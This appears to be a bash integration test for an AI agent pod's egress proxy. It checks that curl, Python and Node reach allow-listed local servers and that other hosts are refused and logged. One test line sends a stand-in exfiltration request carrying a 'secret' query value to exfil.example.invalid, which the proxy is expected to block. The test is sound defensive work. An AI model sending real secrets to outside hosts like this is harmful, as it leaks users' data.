#!/usr/bin/env bash
# The agent pod's proxy (supervisor/agentnet.c) under real clients: the unit test's program run as a
# proxy alone (test-agentnet --serve ALLOW…), and curl and Python's urllib (the proxy from
# --proxy, or from http_proxy/https_proxy as an agent's environment would give it) reaching a
# local HTTP server in absolute-form and a local TLS server (openssl s_server) through
# CONNECT. Hosts off the allow-list get the 403 with its reason, and the report the proxy
# prints at SIGTERM records both what was reached and what was refused. No pomed, no pod.
#
# Its TLS listener too (--serve … --tls CHAIN KEY NAME=HOST:PORT=LABEL…), with a CA made here:
# curl, Python's urllib and Node's https (when installed) ask for the vendors' names
# (api.github.com, files.slack.com) as an agent's SDK would, trusting that CA, and reach two
# plain HTTP hosts picked by the server name; a name no route serves is refused and recorded.
set -euo pipefail

BUILD=${POME_BUILD_DIR:?POME_BUILD_DIR is set by ctest}
BIN=$BUILD/tests/test-agentnet
skip() {
        echo "skip: $*" >&2
        exit 77
}
fail() {
        echo "FAIL: $*" >&2
        [[ -f ${TMP:-}/proxy.err ]] && tail -20 "$TMP/proxy.err" >&2
        exit 1
}
pass() { echo "ok: $*"; }

[[ -x $BIN ]] || skip "$BIN is not built"
for tool in curl openssl jq python3; do
        command -v $tool >/dev/null || skip "$tool is not installed"
done
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY

TMP=$(mktemp -d /tmp/pome-agentnet.XXXXXX)
PIDS=()
cleanup() {
        for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
        wait 2>/dev/null || true
        rm -rf "$TMP"
}
trap cleanup EXIT

free_port() {
        python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}
wait_for() { # wait_for URL [curl options…]: until it answers, 5 s at most
        local url=$1
        shift
        for _ in $(seq 50); do
                curl -sf --noproxy '*' -o /dev/null "$@" "$url" && return 0
                sleep 0.1
        done
        fail "$url never answered"
}

mkdir "$TMP/www"
echo "plain hello" >"$TMP/www/hello.txt"
echo "tls hello" >"$TMP/www/tls.txt"

# the hosts: plain HTTP (two: the TLS listener's routes tell them apart), and TLS with a
# certificate for localhost
HPORT=$(free_port)
python3 -m http.server --bind 127.0.0.1 --directory "$TMP/www" "$HPORT" >"$TMP/http.log" 2>&1 &
PIDS+=($!)
mkdir "$TMP/www2"
echo "slack hello" >"$TMP/www2/slack.txt"
H2PORT=$(free_port)
python3 -m http.server --bind 127.0.0.1 --directory "$TMP/www2" "$H2PORT" >"$TMP/http2.log" 2>&1 &
PIDS+=($!)
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$TMP/key.pem" -out "$TMP/cert.pem" -days 1 \
        -subj /CN=localhost -addext "subjectAltName=DNS:localhost" 2>/dev/null
SPORT=$(free_port)
(cd "$TMP/www" && exec openssl s_server -accept "127.0.0.1:$SPORT" -cert "$TMP/cert.pem" \
        -key "$TMP/key.pem" -WWW -quiet) >"$TMP/tls.log" 2>&1 </dev/null &
PIDS+=($!)
wait_for "http://127.0.0.1:$HPORT/hello.txt"
wait_for "http://127.0.0.1:$H2PORT/slack.txt"
wait_for "https://localhost:$SPORT/tls.txt" --cacert "$TMP/cert.pem"

# a run's CA and its leaf for the vendors' names (ECDSA P-256, as common/runca.c makes them)
(
        cd "$TMP"
        openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key \
                -out ca.pem -days 2 -subj "/CN=pome test run CA" \
                -addext "keyUsage=critical,keyCertSign,cRLSign"
        openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout leaf.key \
                -out leaf.csr -subj /CN=api.github.com
        printf '%s\n' "subjectAltName=DNS:api.github.com,DNS:slack.com,DNS:*.slack.com" \
                basicConstraints=CA:FALSE keyUsage=critical,digitalSignature \
                extendedKeyUsage=serverAuth subjectKeyIdentifier=hash \
                authorityKeyIdentifier=keyid,issuer >leaf.ext
        openssl x509 -req -in leaf.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -sha256 \
                -extfile leaf.ext -out leaf.pem
        cat leaf.pem ca.pem >chain.pem
) >"$TMP/ca.log" 2>&1 || fail "making the run CA: $(cat "$TMP/ca.log")"

# the proxy: the plain host by address and port, the TLS host by name only; the TLS listener:
# api.github.com to the first plain host, *.slack.com to the second
"$BIN" --serve "127.0.0.1:$HPORT" localhost --tls "$TMP/chain.pem" "$TMP/leaf.key" \
        "api.github.com=127.0.0.1:$HPORT=github twin" "*.slack.com=127.0.0.1:$H2PORT=slack twin" \
        >"$TMP/proxy.out" 2>"$TMP/proxy.err" &
PROXY_PID=$!
PIDS+=($PROXY_PID)
for _ in $(seq 50); do
        [[ $(wc -l <"$TMP/proxy.out") -ge 2 ]] && break
        sleep 0.1
done
PP=$(sed -n 1p "$TMP/proxy.out")
TP=$(sed -n 2p "$TMP/proxy.out")
[[ $PP =~ ^[0-9]+$ && $TP =~ ^[0-9]+$ ]] || fail "the proxy printed no ports"
PROXY=http://127.0.0.1:$PP

# curl: absolute-form for http://, CONNECT for https:// and with --proxytunnel
out=$(curl -sS --proxy "$PROXY" "http://127.0.0.1:$HPORT/hello.txt") || fail "curl http through the proxy"
[[ $out == "plain hello" ]] || fail "curl http: $out"
pass "curl: http:// in absolute-form"
out=$(curl -sS --proxy "$PROXY" --cacert "$TMP/cert.pem" "https://localhost:$SPORT/tls.txt") ||
        fail "curl https through the proxy"
[[ $out == "tls hello" ]] || fail "curl https: $out"
pass "curl: https:// through CONNECT, TLS end to end"
out=$(curl -sS --proxytunnel --proxy "$PROXY" "http://127.0.0.1:$HPORT/hello.txt") ||
        fail "curl --proxytunnel"
[[ $out == "plain hello" ]] || fail "curl --proxytunnel: $out"
pass "curl: http:// through CONNECT (--proxytunnel)"

# refused: a raw IP for a host allowed by name, a host not on the list
status=0
curl -sS --proxy "$PROXY" --cacert "$TMP/cert.pem" "https://127.0.0.1:$SPORT/tls.txt" \
        2>"$TMP/curl.err" || status=$?
[[ $status -ne 0 ]] && grep -q "403" "$TMP/curl.err" || fail "a raw IP passed: $(cat "$TMP/curl.err")"
pass "curl: CONNECT to 127.0.0.1 refused (only \"localhost\" is listed)"
code=$(curl -s -o "$TMP/body" -w '%{http_code}' --proxy "$PROXY" "http://exfil.example.invalid/?k=secret")
[[ $code == 403 ]] || fail "not-allowed host: $code"
grep -q "the agent pod may reach only: 127.0.0.1:$HPORT, localhost; pass --allow-net HOST" "$TMP/body" ||
        fail "403 body: $(cat "$TMP/body")"
pass "curl: a host off the list gets 403 saying what is allowed"

# Python's urllib, the proxy from the environment
out=$(http_proxy=$PROXY https_proxy=$PROXY python3 - "$HPORT" "$SPORT" "$TMP/cert.pem" <<'EOF'
import ssl, sys, urllib.error, urllib.request
hport, sport, ca = sys.argv[1], sys.argv[2], sys.argv[3]
ctx = ssl.create_default_context(cafile=ca)
print(urllib.request.urlopen(f"http://127.0.0.1:{hport}/hello.txt", timeout=10).read().decode().strip())
print(urllib.request.urlopen(f"https://localhost:{sport}/tls.txt", context=ctx, timeout=10).read().decode().strip())
try:
    urllib.request.urlopen("https://api.example.invalid/", context=ctx, timeout=10)
    print("reached")
except (urllib.error.URLError, OSError) as e:
    print("refused" if "403" in str(e) else f"other: {e}")
EOF
) || fail "python urllib: $out"
[[ $out == $'plain hello\ntls hello\nrefused' ]] || fail "python urllib: $out"
pass "python urllib with http_proxy/https_proxy: http, https, and a refusal"

# TLS: the vendors' names, resolved to the listener as the pod's /etc/hosts would
out=$(curl -sS -v --resolve "api.github.com:$TP:127.0.0.1" --cacert "$TMP/ca.pem" \
        "https://api.github.com:$TP/hello.txt" 2>"$TMP/curl.err") || fail "curl over TLS: $out"
[[ $out == "plain hello" ]] || fail "curl over TLS: $out"
grep -q "ALPN: server accepted http/1.1" "$TMP/curl.err" || fail "ALPN: $(cat "$TMP/curl.err")"
pass "curl: https://api.github.com ends at pome (ALPN http/1.1 although curl offers h2)"
status=0
curl -sS --resolve "evil.example.com:$TP:127.0.0.1" --cacert "$TMP/ca.pem" \
        "https://evil.example.com:$TP/" 2>"$TMP/curl.err" || status=$?
[[ $status -ne 0 ]] && grep -qi "unrecognized name" "$TMP/curl.err" ||
        fail "a name no route serves passed: $status $(cat "$TMP/curl.err")"
pass "curl: a server name no route serves fails the handshake (unrecognized_name)"

out=$(python3 - "$TP" "$TMP/ca.pem" <<'EOF'
import socket, ssl, sys, urllib.request
port, ca = sys.argv[1], sys.argv[2]
real = socket.getaddrinfo
def pod_hosts(host, *args, **kwargs): # the pod's /etc/hosts: the vendors' names are pome's
    return real("127.0.0.1" if host in ("api.github.com", "files.slack.com") else host, *args, **kwargs)
socket.getaddrinfo = pod_hosts
ctx = ssl.create_default_context(cafile=ca)
for url in (f"https://api.github.com:{port}/hello.txt", f"https://files.slack.com:{port}/slack.txt"):
    print(urllib.request.urlopen(url, context=ctx, timeout=10).read().decode().strip())
EOF
) || fail "python urllib over TLS: $out"
[[ $out == $'plain hello\nslack hello' ]] || fail "python urllib over TLS: $out"
pass "python urllib: api.github.com and files.slack.com, each to its route's host"

slack_clients=1
if command -v node >/dev/null; then
        out=$(node - "$TP" "$TMP/ca.pem" <<'EOF'
const https = require("https"), fs = require("fs");
const [port, ca] = process.argv.slice(2);
const req = https.get({host: "127.0.0.1", servername: "files.slack.com", port, path: "/slack.txt",
                       headers: {Host: "files.slack.com"}, ca: fs.readFileSync(ca)}, (res) => {
        let body = "";
        res.on("data", (d) => (body += d));
        res.on("end", () => console.log(res.statusCode, body.trim()));
});
req.on("error", (e) => { console.log("error", e.message); process.exitCode = 1; });
EOF
        ) || fail "node https over TLS: $out"
        [[ $out == "200 slack hello" ]] || fail "node https over TLS: $out"
        pass "node https: files.slack.com by its server name"
        slack_clients=2
else
        echo "skip: node https (node is not installed)"
fi

# the report
kill -TERM "$PROXY_PID"
wait "$PROXY_PID" || fail "the proxy exited with $?"
grep -qE "AddressSanitizer|LeakSanitizer|runtime error:" "$TMP/proxy.err" && fail "sanitizer report"
report=$(tail -1 "$TMP/proxy.out")
jq -e . >/dev/null <<<"$report" || fail "no report: $report"
jq -e --argjson s "$SPORT" '[.connections[] | select(.host == "localhost" and .port == $s
        and .method == "CONNECT" and .allowed and .status == 200 and .bytes_down > 0)] | length == 2' \
        <<<"$report" >/dev/null || fail "the TLS tunnels are not recorded: $report"
jq -e --argjson h "$HPORT" '[.connections[] | select(.host == "127.0.0.1" and .port == $h
        and .method == "GET" and .allowed and (has("status") | not))] | length == 2' \
        <<<"$report" >/dev/null || fail "the plain GETs are not recorded: $report"
jq -e --argjson s "$SPORT" '[.connections[] | select(.host == "127.0.0.1" and .port == $s
        and .allowed == false and .status == 403)] | length == 1' <<<"$report" >/dev/null ||
        fail "the raw-IP refusal is not recorded: $report"
jq -e '[.connections[] | select(.host == "exfil.example.invalid" and .port == 80 and
        .method == "GET" and .allowed == false)] | length == 1' <<<"$report" >/dev/null ||
        fail "the refused host is not recorded: $report"
jq -e --argjson h "$HPORT" '[.connections[] | select(.via == "tls" and .host == "api.github.com"
        and .port == $h and .label == "github twin" and .allowed and .bytes_down > 0)] | length == 2' \
        <<<"$report" >/dev/null || fail "the TLS connections to api.github.com are not recorded: $report"
jq -e --argjson h "$H2PORT" --argjson n "$slack_clients" '[.connections[] | select(.via == "tls"
        and .host == "files.slack.com" and .port == $h and .label == "slack twin" and .allowed
        and .bytes_down > 0)] | length == $n' <<<"$report" >/dev/null ||
        fail "the TLS connections to files.slack.com are not recorded: $report"
jq -e '[.connections[] | select(.via == "tls" and .host == "evil.example.com" and .allowed == false
        and (.why | test("no TLS route")))] | length == 1' <<<"$report" >/dev/null ||
        fail "the refused server name is not recorded: $report"
jq -e '.refused == 4 and .dropped == 0 and .refused + .allowed == (.connections | length)' \
        <<<"$report" >/dev/null || fail "counts: $report"
pass "the report records what was reached and what was refused"
